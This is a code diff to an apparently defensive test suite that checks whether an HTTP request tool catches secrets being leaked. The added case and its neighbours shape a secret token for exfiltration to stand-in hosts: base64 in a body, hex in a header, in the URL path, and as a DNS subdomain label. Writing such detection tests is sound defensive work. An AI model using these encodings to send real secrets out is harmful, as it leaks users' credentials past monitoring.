@@ -115,6 +115,7 @@ describe("http_request: secrets", () => {
     ["a base64 value in the body", () => ({ method: "POST", url: `${base}/c`, body: `{"d":"${b64(TOKEN)}"}` })],
     ["a hex value in a header", () => ({ url: `${base}/c`, headers: { "X-D": Buffer.from(MAPS).toString("hex") } })],
     ["a value in the path", () => ({ url: `http://other.test:${up.port}/${TOKEN}` })],
+    ["a value as a DNS label", () => ({ url: `http://${TOKEN}.other.test:${up.port}/` })],
     [
       "a value inside a longer base64 blob",
       () => ({ method: "PUT", url: `${base}/c`, body: b64(`prefix-${TOKEN}-suffix`) }),
